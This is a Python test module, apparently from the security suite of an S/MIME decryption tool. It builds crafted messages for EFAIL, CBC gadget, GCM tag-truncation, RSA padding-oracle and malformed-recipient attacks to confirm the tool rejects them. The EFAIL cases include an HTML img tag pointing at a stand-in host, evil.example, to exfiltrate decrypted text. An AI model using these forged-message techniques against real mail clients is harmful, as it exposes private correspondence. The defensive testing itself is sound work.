# SPDX-License-Identifier: Apache-2.0
"""Attacks on what is encrypted: T-22, T-23, T-26..T-29, T-31, T-37; old ciphers, passwords, symmetric keys."""
import warnings

from case import *
from signatures import TEXT, clear_by, sealed

SECRET = b"the figures"


def enveloped(data):
    return p7m(data, "enveloped-data")


def auth(data):
    return p7m(data, "authEnveloped-data")


@attack("T-22")  # V-03, V-04
def efail_direct(w):
    hidden = sealed(w, TEXT)
    yield good("at the root", mail(hidden), encryption="authenticated", payload=SECRET)
    yield good("under a signed root", mail(clear_by(w.alice, sealed(w, clear_by(w.alice)))), signature="valid_trusted", encryption="authenticated",
               payload=SECRET)
    before, behind = part("text/html", "<img src=\"http://evil.example/"), part("text/html", "\">")
    for label, entity in (("between two", multipart("mixed", before, hidden, behind)), ("before one", multipart("mixed", hidden, behind)),
                          ("related", multipart("related", before, hidden, behind)),
                          ("deeper", multipart("mixed", before, multipart("mixed", hidden), behind))):
        yield Case(label, mail(entity), "none", "none", hidden=SECRET, also=lambda v, _: len(v["attachments"]) == 1)


def flipped(ciphertext, at):
    return ciphertext[:at] + bytes([ciphertext[at] ^ 1]) + ciphertext[at + 1:]


@attack("T-23")  # V-12
def efail_gadget(w):
    key, iv = os.urandom(16), os.urandom(16)
    yield good("untouched, and unauthenticated it is", mail(enveloped(encrypt_cbc([to_rsa(w.bob_rsa, key)], TEXT, key))), encryption="unauthenticated",
               payload=SECRET)
    whole = cbc(key, iv, pad(TEXT))
    known, wanted = TEXT[:16], b"Content-type: te"  # the attacker knows the first block, so it writes what it likes
    assert known == b"Content-Type: te"
    gadget = envelope([to_rsa(w.bob_rsa, key)], algorithm(CBC[16], octets(xor(iv, xor(known, wanted)))), whole)
    yield Case("the first block rewritten", mail(enveloped(gadget)), "none", "unauthenticated", payload=wanted)
    spliced = envelope([to_rsa(w.bob_rsa, key)], algorithm(CBC[16], octets(iv)), whole[:16] + os.urandom(16) + iv + whole)
    yield Case("blocks put in", mail(enveloped(spliced)), "none", "unauthenticated")
    inside = clear_by(w.alice)
    ciphertext = cbc(key, iv, pad(inside))
    for label, at in (("in the text", inside.index(b"figures")), ("in the boundary", inside.index(b"--b") + 4)):
        spoilt = envelope([to_rsa(w.bob_rsa, key)], algorithm(CBC[16], octets(iv)), flipped(ciphertext, at // 16 * 16))
        yield Case("a signature within, flipped " + label, mail(enveloped(spoilt)), ("altered", "malformed", "none", "partial"), "unauthenticated")


@attack("T-26")
def relabelled_as_cbc(w):
    """Two blocks of GCM are XOR of key stream; read as CBC they are the block cipher's inverse of what was sent."""
    key, nonce = os.urandom(32), os.urandom(12)
    wrapped = to_rsa(w.bob_rsa, key)
    genuine = encrypt_gcm([wrapped], TEXT, key, nonce=nonce)
    yield good("as it was", mail(auth(genuine)), encryption="authenticated", payload=SECRET)
    ciphertext = AESGCM(key).encrypt(nonce, TEXT, None)[:-16]
    counter = nonce + b"\0\0\0\2"
    fits, fails = [], []
    while not fits or not fails:
        tail = os.urandom(16)
        end = cbc(key, counter, ciphertext[:16] + tail, encrypt=False)
        (fits if end[-1] and end[-1] <= 16 and end.endswith(bytes([end[-1]]) * end[-1]) else fails).append(tail)
    for label, tail, word in (("padding fits", fits[0], "unauthenticated"), ("padding does not", fails[0], "failed")):
        forged = envelope([wrapped], algorithm(CBC[32], octets(counter)), ciphertext[:16] + tail)
        yield Case(label, mail(enveloped(forged)), "none", word, hidden=SECRET, reasons=["decrypt_failed"] if word == "failed" else [])
    for label, identifier, kind, tail in (("CBC in AuthEnvelopedData", algorithm(CBC[32], octets(counter)), AUTH_ENVELOPED, octets(bytes(16))),
                                          ("CBC in AuthEnvelopedData, no MAC", algorithm(CBC[32], octets(counter)), AUTH_ENVELOPED, octets(b"")),
                                          ("GCM in EnvelopedData", gcm_parameters(32, nonce, 16), ENVELOPED, b"")):
        yield Case(label, mail(enveloped(envelope([wrapped], identifier, ciphertext[:16] + fits[0], kind, tail=tail))), "none", "failed",
                   hidden=SECRET, reasons=["decrypt_failed"])


@attack("T-27")  # R-47, P-08
def tag_cut(w):
    key = os.urandom(16)
    to = [to_rsa(w.bob_rsa, key)]
    for size in (12, 13, 14, 15, 16):
        yield good("a tag of %d" % size, mail(auth(encrypt_gcm(to, TEXT, key, icv=size))), encryption="authenticated", payload=SECRET)
    yield good("nothing announced is 12 (P-08)", mail(auth(encrypt_gcm(to, TEXT, key, icv=None))), encryption="authenticated", payload=SECRET)
    for label, icv, size in (("4 of 4", 4, 4), ("4 of 16", 16, 4), ("11 of 11", 11, 11), ("12 of 16", 16, 12), ("15 of 16", 16, 15), ("16 of 12", 12, 16),
                             ("16 of none", None, 16), ("0 of 16", 16, 0), ("0 of 0", 0, 0), ("1 of 1", 1, 1), ("8 of 8", 8, 8), ("16 of 17", 17, 16)):
        yield Case(label, mail(auth(encrypt_gcm(to, TEXT, key, icv=icv, tag_size=size))), "none", "failed", reasons=["decrypt_failed"], hidden=SECRET)
    yield Case("no tag", mail(auth(envelope(to, gcm_parameters(16, bytes(12), 16), bytes(40), AUTH_ENVELOPED))), "none", "failed")
    attributes = [attribute(CONTENT_TYPE, oid(DATA)), attribute(UNKNOWN, NULL)]
    yield good("with attributes (R-47)", mail(auth(encrypt_gcm(to, TEXT, key, attributes=attributes))), encryption="authenticated", payload=SECRET)
    sealed_ = encrypt_gcm(to, TEXT, key, attributes=attributes)
    yield Case("attributes changed", mail(auth(sealed_.replace(oid(UNKNOWN), oid(UNKNOWN[:-1] + "2")))), "none", "failed", hidden=SECRET)
    for label, nonce in (("no nonce", b""), ("a nonce of 129", bytes(129))):
        made = envelope(to, gcm_parameters(16, nonce, 16), bytes(40), AUTH_ENVELOPED, tail=octets(bytes(16)))
        yield Case(label, mail(auth(made)), "none", "failed")


@attack("T-28")
def fifty_megabytes(w):
    key, size = os.urandom(32), 50 * 1024 * 1024
    content = part("text/plain", b"") + (SECRET + b"\r\n") * (size // (len(SECRET) + 2))
    to, attributes = [to_rsa(w.bob_rsa, key)], [attribute(CONTENT_TYPE, oid(DATA)), attribute(UNKNOWN, NULL)]
    yield good("untouched", encrypt_gcm(to, content, key), encryption="authenticated", payload=SECRET)
    for label, change, listed in (("the tag flipped", lambda c, t: (c, flipped(t, 15)), ()), ("the last octet flipped", lambda c, t: (flipped(c, len(c) - 1), t), ()),
                                  ("the first octet flipped", lambda c, t: (flipped(c, 0), t), ()),
                                  ("the tag flipped, with attributes", lambda c, t: (c, flipped(t, 0)), attributes)):
        yield NothingLeft(label, encrypt_gcm(to, content, key, change=change, attributes=listed), "none", "failed", hidden=SECRET, reasons=["decrypt_failed"])


class NothingLeft(Case):
    """Besides the verdict: without --json the same message is asked for on standard output, and no file is left"""

    def run(self, waxwing, world, folder):
        faults = super().run(waxwing, world, folder)
        source = os.path.join(folder, "in")
        with open(source, "wb") as f:
            f.write(self.message)
        keys = [a for i in world.identities for a in ("--identity", i)]
        done = subprocess.run([waxwing, "open", source, *keys], capture_output=True, cwd=folder, env={**os.environ, "TMPDIR": folder})
        if done.stdout:
            faults.append("%d octets on standard output" % len(done.stdout))
        left = sorted(set(os.listdir(folder)) - {"in"})
        if left:
            faults.append("left behind: %s" % left)
        for name in os.listdir(folder):
            os.unlink(os.path.join(folder, name))
        return faults


@attack("T-29")
def one_error_for_all(w):
    """What differs is where it fails; what is said must not."""
    key, other = os.urandom(32), rsa_key()
    rsa_, right = w.bob_rsa.key, to_rsa(w.bob_rsa, key)
    stranger = Person("Bob R", "bob@partner.example", w.root, other)

    def block(data):
        return key_trans(w.bob_rsa, rsa_.raw_public(data.rjust(rsa_.octets, b"\0")))
    yield good("as it should be", auth(encrypt_gcm([right], TEXT, key)), encryption="authenticated", payload=SECRET)
    yield good("the second of two is his", auth_bare([to_rsa(stranger, key), right], key), encryption="authenticated", payload=SECRET)
    padding = b"\x55" * (rsa_.octets - 35)
    wrong = {
        "padding that begins wrong": block(b"\0\1" + padding + b"\0" + key), "padding without an end": block(b"\0\2" + b"\x55" * (rsa_.octets - 2)),
        "padding too short": block(b"\0\2\0" + b"\x55" * (rsa_.octets - 3)), "a key too short": to_rsa(w.bob_rsa, key[:16]),
        "a key too long": to_rsa(w.bob_rsa, key + key), "no key": to_rsa(w.bob_rsa, b""), "another key": to_rsa(w.bob_rsa, bytes(32)),
        "garbage": key_trans(w.bob_rsa, os.urandom(rsa_.octets)), "garbage, short": key_trans(w.bob_rsa, os.urandom(5)),
        "nothing": key_trans(w.bob_rsa, b""), "zero": key_trans(w.bob_rsa, bytes(rsa_.octets)),
        "larger than the modulus": key_trans(w.bob_rsa, b"\xff" * rsa_.octets), "under another's key": key_trans(w.bob_rsa, other.raw_public(
            b"\0\2" + padding + b"\0" + key)),
        "OAEP, garbage": key_trans(w.bob_rsa, os.urandom(rsa_.octets), oaep_parameters()),
        "OAEP, another label": key_trans(w.bob_rsa, rsa_.wrap_oaep(key, label=b"x"), oaep_parameters()),
        "OAEP, a key too short": to_oaep(w.bob_rsa, key[:16]),
        "agreed, garbage": to_ec(w.bob, key, wrapped=os.urandom(40)), "agreed, a key too short": to_ec(w.bob, key[:16]),
    }
    for label, recipient in wrong.items():
        yield Uniform(label, auth_bare([recipient], key))
    yield Uniform("right key, wrong tag", auth(encrypt_gcm([right], TEXT, key, change=lambda c, t: (c, flipped(t, 3)))))
    yield Uniform("right key, wrong padding", enveloped(envelope([right], algorithm(CBC[32], octets(bytes(16))), cbc(key, bytes(16), bytes(64)))))
    yield Uniform("right key, no whole block", enveloped(envelope([right], algorithm(CBC[32], octets(bytes(16))), bytes(33))))
    yield Uniform("right key, no content", enveloped(envelope([right], algorithm(CBC[32], octets(bytes(16))), b"")))
    # CVE-2026-42768: one private-key operation, whatever stands behind the first that is his (L-18)
    yield Uniform("his twice, the first garbage", auth_bare([wrong["garbage"], right], key))
    yield Uniform("his three times", auth_bare([wrong["no key"], wrong["garbage"], right], key))


def auth_bare(recipients, key):
    return auth(encrypt_gcm(recipients, TEXT, key))


class Uniform(Case):
    """reasons, texts and exit code are the same, octet for octet"""

    def __init__(self, name, entity):
        super().__init__(name, mail(entity), "none", "failed", reasons=["decrypt_failed"], hidden=SECRET)

    def judge(self, verdict, payload, done):
        faults = super().judge(verdict, payload, done)
        if verdict["verdict"]["reasons"] != ["decrypt_failed"] or verdict["layers"][0]["reasons"] != ["decrypt_failed"]:
            faults.append("more is said than that it failed: %s" % verdict["layers"][0]["reasons"])
        if verdict["verdict"]["notes"] or verdict["layers"][0]["notes"]:
            faults.append("notes: %s" % verdict["layers"][0]["notes"])
        said = done.stderr.decode().split(": ", 1)[0], done.stderr.decode().rsplit("/out ", 1)[-1]
        if not said[1].startswith("is not written: the message could not be opened"):
            faults.append("said: %s" % done.stderr)
        return faults


@attack("T-31")  # R-45, P-05, P-06
def malformed_recipients(w):
    key = os.urandom(32)
    yield good("agreed", mail(auth_bare([to_ec(w.bob, key)], key)), encryption="authenticated", payload=SECRET)
    yield good("agreed, with ukm", mail(auth_bare([to_ec(w.bob, key, ukm=b"u" * 16)], key)), encryption="authenticated", payload=SECRET)
    yield good("an ori that nobody knows beside (R-45)", mail(auth_bare([explicit(4, oid(UNKNOWN), NULL), to_rsa(w.bob_rsa, key)], key)),
               encryption="authenticated", payload=SECRET)
    right_ec, right_rsa = to_ec(w.bob, key), to_rsa(w.bob_rsa, key)
    any_failure = ("failed", "undecryptable")
    for label, recipient in (("kari", right_ec), ("ktri", right_rsa)):
        tree = parse(recipient)[0]
        for n, child in enumerate(tree.children):
            kept = list(tree.children)
            tree.children = kept[:n] + kept[n + 1:]
            yield Case("%s without field %d" % (label, n), mail(auth_bare([tree.write()], key)), "none", any_failure, hidden=SECRET)
            tree.children = kept[:n + 1] + kept[n:]
            # a content key that is given twice is no recipient any more
            yield Case("%s with field %d twice" % (label, n), mail(auth_bare([tree.write()], key)), "none", any_failure, hidden=SECRET)
            tree.children = kept
        for n in range(3, len(recipient), 17):
            yield Case("%s cut at %d" % (label, n), mail(auth_bare([der(recipient[0], recipient[3:n])], key)), "none", any_failure, hidden=SECRET)
    point = EcKey().point()
    for label, bad in (("not on the curve", point[:40] + bytes([point[40] ^ 1]) + point[41:]), ("infinity", b"\0"),
                       # of the right key: who takes this form opens the message
                       ("hybrid", lambda right: bytes([6 | right[64] & 1]) + right[1:]),
                       ("cut", point[:64]), ("of zeros", b"\4" + bytes(64)), ("empty", b"")):
        yield Case("a point " + label, mail(auth_bare([to_ec(w.bob, key, point=bad)], key)), "none", any_failure, hidden=SECRET)
    for label, wrapped in (("of 8", bytes(8)), ("of 7", bytes(7)), ("empty", b""), ("long", os.urandom(4096))):
        yield Case("a wrapped key " + label, mail(auth_bare([to_ec(w.bob, key, wrapped=wrapped)], key)), "none", any_failure, hidden=SECRET)
    # who knows the password opens the sibling, so it is the change that is refused
    password = b"correct horse"
    know = dict(arguments=["--message-password", w.file("password", password)])
    yield good("a password (P-11)", mail(auth_bare([to_password(password, key)], key)), encryption="authenticated", payload=SECRET, **know)
    yield Case("another password", mail(auth_bare([to_password(b"wrong", key)], key)), "none", "failed", hidden=SECRET, **know)
    for label, block in (("a wrong check value", password_block(key, check=b"\1\2\3")), ("a length past the end", password_block(key, size=200)),
                         ("a length of 0", password_block(key, size=0)), ("a key too short", password_block(key[:16])),
                         ("one block", password_block(key[:8], room=16)), ("a length of all", password_block(key, size=48))):
        yield Case("pwri with " + label, mail(auth_bare([to_password(password, key, block=block)], key)), "none", any_failure, hidden=SECRET, **know)
    for label, cipher in (("a stream mode", algorithm("2.16.840.1.101.3.4.1.4", octets(bytes(16)))), ("GCM", gcm_parameters(16, bytes(12), 16)),
                          ("RC4", algorithm("1.2.840.113549.3.4")), ("no IV", algorithm(CBC[16])), ("a short IV", algorithm(CBC[16], octets(bytes(4))))):
        for size in (16, 17, 32, 5, 0):
            pwri = to_password(password, key, wrapped=os.urandom(size), cipher=cipher)
            yield Case("pwri under %s, %d octets" % (label, size), mail(auth_bare([pwri], key)), "none", any_failure, hidden=SECRET, **know)
    yield Case("a kind that does not exist", mail(auth_bare([explicit(9, NULL), right_rsa], key)), "none", any_failure)


@attack("T-37")  # R-55, S,R-53, P-03
def key_of_another_size(w):
    for size in (16, 24, 32):
        key = os.urandom(size)
        for label, recipient in (("v1.5", to_rsa(w.bob_rsa, key)), ("OAEP", to_oaep(w.bob_rsa, key)), ("agreed", to_ec(w.bob, key))):
            yield good("AES-%d, %s" % (size * 8, label), mail(enveloped(encrypt_cbc([recipient], TEXT, key))), encryption="unauthenticated", payload=SECRET)
            for named in {16, 24, 32} - {size}:
                # v1.5 goes on with a random key, whose padding fits once in 256 times
                words = ("failed", "unauthenticated") if label == "v1.5" else "failed"
                yield Case("%d octets under AES-%d, %s" % (size, named * 8, label),
                           mail(enveloped(encrypt_cbc([recipient], TEXT, key, name_size=named))), "none", words, hidden=SECRET)
    # the right key with more behind it: who takes what it needs opens this
    key = os.urandom(16)
    for label, recipient in (("OAEP", to_oaep(w.bob_rsa, key + bytes(8))), ("agreed", to_ec(w.bob, key + bytes(8)))):
        yield Case("more than the key, " + label, mail(enveloped(encrypt_cbc([recipient], TEXT, key))), "none", "failed", hidden=SECRET)


@attack("P-12")
def symmetric_keys(w):
    key, name = os.urandom(32), b"\x0b\xad\xca\xfe"
    for size in (16, 24, 32):
        kek = os.urandom(size)
        know = dict(arguments=["--kek", w.file("kek-%d" % size, name.hex().encode() + b":" + kek.hex().encode())])

        def case(label, recipient, word, know=know):
            return Case(label, mail(auth_bare([recipient], key)), "none", word, hidden=SECRET, **know)
        yield good("of %d octets" % size, mail(auth_bare([to_kek(name, kek, key)], key)), encryption="authenticated", payload=SECRET, **know)
        dated = to_kek(name, kek, key, more=der(0x18, b"20200101000000Z"))
        yield good("of %d octets, with a date" % size, mail(auth_bare([dated], key)), encryption="authenticated", payload=SECRET, **know)
        yield case("%d: by another name" % size, to_kek(b"\x0b\xad\xca\xff", kek, key), "undecryptable")
        yield case("%d: another key" % size, to_kek(name, os.urandom(size), key), "failed")
        yield case("%d: a flipped bit" % size, to_kek(name, kek, key, wrapped=flipped(keywrap.aes_key_wrap(kek, key), 9)), "failed")
        yield case("%d: a key too short" % size, to_kek(name, kek, key[:16]), "failed")
        for wrapped in (b"", bytes(8), bytes(7), os.urandom(4096)):
            yield case("%d: %d octets of it" % (size, len(wrapped)), to_kek(name, kek, key, wrapped=wrapped), "failed")
        # AES wrap only: what names another algorithm is not tried
        for label, identifier in (("3DES wrap", algorithm(TRIPLE_DES_WRAP, NULL)), ("AES-CBC", algorithm(CBC[size], octets(bytes(16)))),
                                  ("another size of AES", algorithm(WRAP[48 - size if size != 24 else 16]))):
            yield case("%d: %s" % (size, label), to_kek(name, kek, key, wrap_algorithm=identifier), ("failed", "undecryptable"))
        if size == 24:  # and one that would open
            yield case("a right 3DES wrap", to_kek(name, kek, key, wrapped=wrap_3des(kek, key), wrap_algorithm=algorithm(TRIPLE_DES_WRAP, NULL)),
                       "undecryptable")


def wrap_3des(kek, key):
    """RFC 3217 3.1"""
    iv = os.urandom(8)
    once = iv + triple_des(kek, iv, key + hashlib.sha1(key).digest()[:8])
    return triple_des(kek, bytes.fromhex("4adda22c79e82105"), once[::-1])


@attack("L-14")  # T-35, P-11
def iterations(w):
    key, password = os.urandom(32), b"correct horse"
    know = dict(arguments=["--message-password", w.file("password-14", password)])
    for count in (1, 5000000):
        yield good("below L-14: %d" % count, mail(auth_bare([to_password(password, key, count)], key)), encryption="authenticated", payload=SECRET, **know)
    # a number that is not run makes the recipient nobody's; had it been run, it would have failed
    for count in (5000001, 2 ** 31 - 1, 0, -1):
        said = parse(to_password(password, key, 1))[0]
        said.children[1].children[1].children[1] = parse(number(count))[0]
        yield Case("above L-14: %d" % count, mail(auth_bare([said.write()], key)), "none", "undecryptable", hidden=SECRET, **know)


def triple_des(key, iv, data):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made = Cipher(algorithms.TripleDES(key), modes.CBC(iv)).encryptor()
    return made.update(data) + made.finalize()


@attack("R-07")  # V-11: what is old is read, labelled, and by the historic policy no more than noted
def old_ciphers(w):
    key, iv = os.urandom(24), os.urandom(8)
    labels = ["weak_cipher", "weak_kdf"]

    def noted(which):
        return lambda v, _: which in v["verdict"]["notes"] and "by_historic_policy" in v["verdict"]["notes"] and which in v["layers"][0]["notes"]
    fresh = os.urandom(16)
    yield good("AES, agreed by SHA-256", mail(enveloped(encrypt_cbc([to_ec(w.bob, fresh, size=16)], TEXT, fresh))), encryption="unauthenticated",
               payload=SECRET, without=labels)
    old = envelope([to_rsa(w.bob_rsa, key)], algorithm(TRIPLE_DES, octets(iv)), triple_des(key, iv, pad(TEXT, 8)))
    sha1 = encrypt_gcm([to_ec(w.bob, fresh, size=16, scheme=STD_DH_SHA1, kdf="sha1")], TEXT, fresh)
    for label, entity, word, which in (("3DES", enveloped(old), "unauthenticated", "weak_cipher"), ("a KDF of SHA-1", auth(sha1), "authenticated", "weak_kdf")):
        yield Case(label, mail(entity), "none", word, reasons=[which], payload=SECRET, also=lambda v, _, x=which: x in v["layers"][0]["reasons"])
        yield Case(label + ", historic", mail(entity), "none", word, without=labels, payload=SECRET, arguments=["--historic"], also=noted(which))
    signed_ = envelope([to_rsa(w.bob_rsa, key)], algorithm(TRIPLE_DES, octets(iv)), triple_des(key, iv, pad(clear_by(w.alice), 8)))
    yield Case("3DES around a signature, whose word it leaves alone (V-12)", mail(enveloped(signed_)), "valid_trusted", "unauthenticated", reasons=["weak_cipher"])
    broken = envelope([to_rsa(w.bob_rsa, key)], algorithm(TRIPLE_DES, octets(iv)), triple_des(key, iv, bytes(16)))
    yield Uniform("3DES that fails says no more than others (R-46)", enveloped(broken))
